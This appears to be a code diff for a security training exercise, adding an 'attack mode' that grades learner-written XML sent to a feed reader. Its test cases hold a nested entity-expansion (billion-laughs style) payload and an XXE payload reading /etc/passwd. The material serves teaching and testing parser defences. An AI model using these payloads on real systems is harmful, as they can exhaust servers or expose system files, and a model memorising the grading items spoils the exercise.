@@ -46,3 +46,22 @@ export async function exploit({ readFeed }: Code, vary: Vary): Promise<Breach | 
   }
   return false
 }
+
+// Attack mode: the learner writes the input.
+export async function attack({ readFeed }: Code, { body }: { body: string }, vary: Vary) {
+  try {
+    const { items, skipped } = await readFeed(Buffer.from(body), createShop(vary), log)
+    const length = items.reduce((sum, { name }) => sum + name.length, 0)
+    return { isDone: length > 2_000_000, shown: `${items.length} items read, ${skipped} skipped; their texts have ${length} characters.` }
+  } catch (error) {
+    return { isDone: false, shown: String(error) }
+  }
+}
+
+const grown = `<!DOCTYPE catalog [<!ENTITY a "${'lamp '.repeat(100)}"><!ENTITY b "${'&a;'.repeat(20)}"><!ENTITY c "${'&b;'.repeat(20)}">]><catalog>${`<item number="1" price="9.90">${'&c;'.repeat(5)}</item>`.repeat(4)}</catalog>`
+
+export const attacks = [
+  { input: { body: grown }, isDone: true },
+  { input: { body: '<catalog><item number="1" price="9.90">Lamp</item></catalog>' }, isDone: false },
+  { input: { body: '<!DOCTYPE catalog [<!ENTITY x SYSTEM "file:///etc/passwd">]><catalog>&x;</catalog>' }, isDone: false },
+]
